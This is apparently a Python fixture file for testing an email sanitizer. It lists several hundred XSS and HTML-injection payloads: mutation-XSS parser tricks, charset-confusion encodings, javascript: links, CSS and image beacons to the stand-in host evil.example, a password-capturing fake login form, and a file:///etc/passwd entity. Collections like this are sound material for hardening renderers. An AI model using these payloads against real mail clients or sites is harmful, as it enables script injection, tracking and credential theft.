"""What is put into mail to run in an agent's browser, or to call home. `canary()` must never be called, evil.example never be asked."""

from __future__ import annotations

EVIL = "https://evil.example"
_JS = "canary()"

SCRIPTS = [
    "<script>canary()</script>", "<ScRiPt>canary()</sCrIpT>", "<script/x>canary()</script>", "<script\n>canary()</script >",
    "<scr<script>ipt>canary()</scr</script>ipt>", f"<script src='{EVIL}/x.js'></script>", "<script>/*</script>*/canary()</script>",
    "<<script>canary();//<</script>", "<script\x00>canary()</script>", "<script type=module>canary()</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,canary()\"}}</script>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'></noscript>", "<template><script>canary()</script></template>",
    "<div><template shadowrootmode=open><script>canary()</script><img src=x onerror=canary()></template></div>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>", "<iframe src='javascript:parent.canary()'></iframe>",
    "<iframe src='data:text/html,<script>parent.canary()</script>'></iframe>", f"<iframe src='{EVIL}/frame'></iframe>",
    f"<frameset><frame src='{EVIL}/frame'></frameset>", f"<portal src='{EVIL}/portal'></portal>", f"<fencedframe src='{EVIL}/f'></fencedframe>",
    "<object data='javascript:canary()'></object>", "<object data='data:text/html,<script>canary()</script>'></object>",
    f"<object data='{EVIL}/o'></object>", f"<embed src='{EVIL}/e'>", f"<applet code='{EVIL}/a'></applet>", "<embed src='javascript:canary()'>",
    "<isindex action='javascript:canary()' type=image>", "<keygen autofocus onfocus=canary()>", "<bgsound src='javascript:canary()'>",
    "<xml><i><b><img src=x onerror=canary()></b></i></xml>", "<?xml-stylesheet href='javascript:canary()'?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "<![CDATA[<script>canary()</script>]]>", "<% canary() %><script>canary()</script>",
]  # fmt: skip
HANDLERS = [
    *(f"<{tag} {event}={_JS}>x" for tag, event in (
        ("img src=x", "onerror"), ("img src=x", "OnErRoR"), ("body", "onload"), ("body", "onpageshow"), ("svg", "onload"),
        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
        ("p style='animation:x'", "onanimationstart"), ("div tabindex=1 autofocus", "onfocus"), ("a href=# autofocus", "onfocus"),
        ("math", "onload"), ("iframe", "onload"), ("object", "onload"), ("style", "onload"), ("link rel=stylesheet href=/", "onload"),
        ("button autofocus", "onfocus"), ("meter", "onmouseover"), ("p contenteditable autofocus", "onfocus"), ("img src=x", "onloadend"),
        ("dialog open", "onbeforetoggle"), ("p popover", "onbeforetoggle"), ("xss", "oncontentvisibilityautostatechange"),
    )),
    "<img/src=x/onerror=canary()>", "<img src=x onerror\n=canary()>", "<img src=x onerror\x0c=canary()>", "<img src='x'onerror=canary()>",
    "<img src=x:x onerror=canary() //>", "<img \x00src=x onerror=canary()>", "<img src=x ''onerror=canary()>", "<img src=`x`onerror=canary()>",
    "<IMG \"\"\"><SCRIPT>canary()</SCRIPT>\">", "<a onmouseover=canary() style='display:block;width:999px;height:999px'>x</a>",
    "<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;()>", "<p title=\"a&quot; onmouseover=canary() b\">x</p>", "<b/alt='1'onmouseover=InputBox+1 language=vbs>x",
]  # fmt: skip
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=canary()></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=canary()>'>", "<svg><style><img src=x onerror=canary()></style>",
    "<svg><p><style><!--</style><img src=x onerror=canary()>--></style>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<noscript><style></noscript><img src=x onerror=canary()></style>", "<svg><title><style><img src=x onerror=canary()></style></title>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=canary()></style></annotation-xml></math>",
    "<svg><foreignObject><style><img src=x onerror=canary()></style></foreignObject></svg>",
    "<svg><desc><noembed><!--</noembed><img src=x onerror=canary()>--></desc></svg>", "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
    "<noembed><p title='</noembed><img src=x onerror=canary()>'>", "<noframes><p title='</noframes><img src=x onerror=canary()>'>",
    "<plaintext><img src=x onerror=canary()>", "<textarea><p title='</textarea><img src=x onerror=canary()>'>", "<title><p title='</title><img src=x onerror=canary()>'>",
    "<select><template><img src=x onerror=canary()></template></select>", "<select><style></select><img src=x onerror=canary()></style>",
    "<table><td><a><table><td></a><img src=x onerror=canary()>", "<a><svg><a><style></a><img src=x onerror=canary()></style>",
    "<p id='</p><img src=x onerror=canary()>'>x", "<b title='`<img src=x onerror=canary()>`'>x</b>", "<listing>&lt;img src=x onerror=canary()&gt;</listing>",
    "<math><mi><b><style></b><img src=x onerror=canary()></style>", "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=canary()>]]>", "<div " + "a" * 70_000 + " ><img src=x onerror=canary()>",
    "<div>" * 600 + "<svg><style><img src=x onerror=canary()></style>", "<table>" * 300 + "<mglyph><style><img src=x onerror=canary()></style>",
    "<blockquote><blockquote title='</blockquote><img src=x onerror=canary()>'>x</blockquote>", "<blockquote title='>'><img src=x onerror=canary()></blockquote>y",
    "<p>new</p><blockquote>a<blockquote>b</blockquote><img src=x onerror=canary()></blockquote><p title='<blockquote>'>x",
]  # fmt: skip
COMMENTS = [
    "<!--><img src=x onerror=canary()>-->", "<!---><img src=x onerror=canary()>-->", "<!--!><img src=x onerror=canary()>-->",
    "<!-- --!><img src=x onerror=canary()>-->", "<!--[if gte IE 4]><script>canary()</script><![endif]-->", "<!-- -- --><script>canary()</script>",
    "<!><script>canary()</script>", "<!doctype [<!ENTITY x '<script>canary()</script>'>]>&x;", "<!--\x00><img src=x onerror=canary()>",
    "<comment><img src='</comment><img src=x onerror=canary()>'>", "<//comment><img src=x onerror=canary()>", "<?><img src=x onerror=canary()>",
]  # fmt: skip
LINKS = [
    *(f"<a href=\"{url}\">here</a>" for url in (
        "javascript:canary()", "JaVaScRiPt:canary()", " javascript:canary()", "java\tscript:canary()", "java\nscript:canary()",
        "\x01javascript:canary()", "javascript&colon;canary()", "&#106;avascript:canary()", "&#x6A;avascript&#58;canary()",
        "javascript://%0acanary()", "vbscript:canary()", "data:text/html,<script>opener.canary()</script>",
        "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5KCk8L3NjcmlwdD4=", "blob:https://x/1", "filesystem:https://x/1",
        "view-source:javascript:canary()", "feed:javascript:canary()", "jar:https://x!/", "livescript:canary()", "file:///etc/passwd",
        "about:blank", "intent://x#Intent;scheme=javascript;end", "chrome://settings", "x:javascript:canary()", "javascript\x00:canary()",
    )),
    "<a xlink:href='javascript:canary()'>here</a>", "<svg><a xlink:href='javascript:canary()'><text y=20>here</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:canary() /><text y=20>here</text></a></svg>", "<math href='javascript:canary()'>here</math>",
    "<map name=m><area href='javascript:canary()' coords='0,0,99,99'></map><img usemap=#m src=x>", "<base href='javascript:canary()//'><a href='#'>here</a>",
    f"<base href='{EVIL}/'><a href='x'>here</a><img src=x.png>", f"<a href='//evil.example/x' ping='{EVIL}/ping'>here</a>", "<a href='/v1/session'>here</a>",
    f"<a href='{EVIL}' target='_top'>here</a>", f"<a href='{EVIL}' target='_self' rel=opener>here</a>", f"<a href='{EVIL}' attributionsrc='{EVIL}/a'>here</a>",
]  # fmt: skip
CALLS = [
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>", "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    f"<meta http-equiv=set-cookie content='inboxops_session=x'><img src='{EVIL}/a'>", f"<meta http-equiv=Content-Security-Policy content='report-uri {EVIL}'>",
    *(f"<link rel='{rel}' href='{EVIL}/l'>" for rel in (
        "stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "prerender", "icon", "import", "manifest", "modulepreload", "alternate stylesheet",
    )),
    f"<img src='{EVIL}/i'>", "<img src='//evil.example/i'>", "<img src='\\\\evil.example\\i'>", "<img src='/\\evil.example/i'>", "<img src='ht\ntps://evil.example/i'>",
    f"<img srcset='{EVIL}/s 1x, {EVIL}/t 2x'>", f"<img src=x srcset='{EVIL}/s'>", f"<picture><source srcset='{EVIL}/p'><img></picture>", f"<img lowsrc='{EVIL}/l'>",
    f"<img dynsrc='{EVIL}/d'>", f"<img longdesc='{EVIL}/d'>", f"<input type=image src='{EVIL}/i'>", f"<body background='{EVIL}/b'>", f"<table background='{EVIL}/t'>",
    f"<td background='{EVIL}/t'>", f"<video src='{EVIL}/v' poster='{EVIL}/p' autoplay></video>", f"<audio src='{EVIL}/a' autoplay></audio>",
    f"<video><source src='{EVIL}/v'><track src='{EVIL}/t' default></video>", f"<svg><image href='{EVIL}/i'/></svg>", f"<svg><image xlink:href='{EVIL}/i'/></svg>",
    f"<svg><use href='{EVIL}/u#x'/></svg>", f"<svg><feImage href='{EVIL}/f'/></svg>", f"<svg><script href='{EVIL}/s'/></svg>", f"<svg><style>@import '{EVIL}/c'</style></svg>",
    f"<svg><rect fill='url({EVIL}/f#x)' width=9 height=9 /></svg>", f"<math><maction actiontype='statusline#{EVIL}' xlink:href='{EVIL}/m'>x</maction></math>",
    f"<blockquote cite='{EVIL}/c'>x</blockquote>", f"<del cite='{EVIL}/c'>x</del>", f"<html manifest='{EVIL}/m'>", f"<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{EVIL}/n%22/></svg>'>",
    "<img src='blob:https://evil.example/1'>", "<img src='cid:logo@x'>", "<img src='/v1/attachments/1/content'>", "<img src='/api/webhooks/gmail-push'>",
    f"<style>@import url({EVIL}/i)</style>", f"<style>body{{background:url({EVIL}/b)}}</style>", f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style><input value=a>", f"<style>@namespace url({EVIL}/n)</style>",
    *(f"<p style=\"{css}\">x</p>" for css in (
        f"background:url({EVIL}/b)", f"background-image:url('{EVIL}/b')", f"background:\\75rl({EVIL}/b)", f"background:u/**/rl({EVIL}/b)", f"list-style-image:url({EVIL}/l);display:list-item",
        f"content:url({EVIL}/c)", f"cursor:url({EVIL}/c),auto", f"border-image:url({EVIL}/b) 1", f"mask:url({EVIL}/m)", f"filter:url({EVIL}/f#x)", f"shape-outside:url({EVIL}/s);float:left",
        f"background:image-set(url({EVIL}/i) 1x)", f"color:red;background-color:url({EVIL}/x)", "width:expression(canary())", f"behavior:url({EVIL}/h)", f"-moz-binding:url({EVIL}/x)",
        f"font:12px url({EVIL}/f)", "color:red;}</style><img src=x onerror=canary()>", f"--x:url({EVIL}/v);border:var(--x)", f"width:100px;/*{EVIL}*/height:calc(1px)", f"list-style-type:url({EVIL}/l)",
        f"background:cross-fade(url({EVIL}/i),red)", f"font-family:url({EVIL}/f)", f"border-color:\\75 rl({EVIL}/x)", f"white-space:url({EVIL}/x)", f"display:url({EVIL}/x)",
    )),
]  # fmt: skip
FORMS = [
    f"<form action='{EVIL}/f'><input name=password autofocus><button>Log in again</button></form>", "<form action='javascript:canary()'><button>here</button></form>",
    f"<button formaction='{EVIL}/f'>here</button>", "<button formaction='javascript:canary()'>here</button>", "<form id=x></form><button form=x formaction=javascript:canary()>here</button>",
    f"<form method=dialog action='{EVIL}'><input type=submit value=here></form>", "<form><input name=attributes><input name=parentNode><input name=nodeName></form>",
    "<form id=page><input name=innerHTML></form>", "<img name=canary><img name=cookie><img name=getElementById>", "<a id=page></a><a id=page name=src href='javascript:canary()'></a>",
    "<label for=key>Log in</label><input id=key>", "<select onchange=canary()><option>1<option>2</select>", "<isindex prompt='Log in' action='javascript:canary()'>",
    "<details open ontoggle=canary()><summary>here</summary></details>", "<button popovertarget=p onclick=canary()>here</button><p id=p popover>x</p>",
    "<button commandfor=p command=--x onclick=canary()>here</button>", "<div draggable=true ondragstart=canary()>x</div>",
]  # fmt: skip

HTML = {
    f"{name} {number}": payload
    for name, payloads in {
        "script": SCRIPTS, "handler": HANDLERS, "mutation": MUTATIONS, "comment": COMMENTS, "link": LINKS, "call": CALLS, "form": FORMS,
    }.items()
    for number, payload in enumerate(payloads)
}  # fmt: skip

_HIDDEN = b"<script>canary()</script><img src=x onerror=canary()>"
CHARSETS: dict[str, tuple[str, bytes]] = {
    "utf-7": ("utf-7", b"+ADw-script+AD4-canary()+ADw-/script+AD4-"),
    "utf-7 that is not said": ("us-ascii", b"+ADw-script+AD4-canary()+ADw-/script+AD4-"),
    "utf-16": ("utf-16", _HIDDEN.decode().encode("utf-16")),
    "utf-16be without a mark": ("utf-16be", _HIDDEN.decode().encode("utf-16-be")),
    "utf-32": ("utf-32", _HIDDEN.decode().encode("utf-32")),
    "iso-2022-jp, an escape within a tag": ("iso-2022-jp", b"<a title='\x1b$B' \x1b(Bonmouseover=canary()>x</a>" + _HIDDEN),
    "iso-2022-kr": ("iso-2022-kr", b"\x1b$)C" + _HIDDEN),
    "hz": ("hz-gb-2312", b"~{<:Ky2;~}" + _HIDDEN),
    "shift_jis, a lead byte eats the quote": ("shift_jis", b"<a title='\x83' onmouseover=canary() x='>x</a>" + _HIDDEN),
    "gbk, a lead byte eats the quote": ("gbk", b"<a title=\"\x81\" onmouseover=canary() x=\">x</a>"),
    "overlong utf-8": ("utf-8", b"\xc0\xbcscript\xc0\xbecanary()\xc0\xbc/script\xc0\xbe"),
    "ebcdic": ("cp037", _HIDDEN.decode().encode("cp037")),
    "nobody's charset": ("x-user-defined", _HIDDEN),
    "a codec that is none for text": ("rot13", b"<fpevcg>pnanel()</fpevcg>"),
    "another codec that is none": ("unicode_escape", b"\\x3cscript\\x3ecanary()\\x3c/script\\x3e"),
    "punycode": ("punycode", b"script-"),
    "a mark of another charset": ("iso-8859-1", b"\xff\xfe" + _HIDDEN.decode().encode("utf-16-le")),
    "charset with a break": ("utf-8\"; x=\"<script>canary()</script>", _HIDDEN),
}  # fmt: skip

TEXTS = [
    "<img src=x onerror=canary()>", "<script>canary()</script>", "\"><svg onload=canary()>", "'-canary()-'", "${canary()}", "{{canary()}}", "javascript:canary()",
    "</title><script>canary()</script>", "&lt;img src=x onerror=canary()&gt;", "\u202egnp.exe\u202c", "%3Cscript%3Ecanary()%3C/script%3E", "`${canary()}`",
]  # fmt: skip
"""For what is shown as text: subjects, names, names of files."""
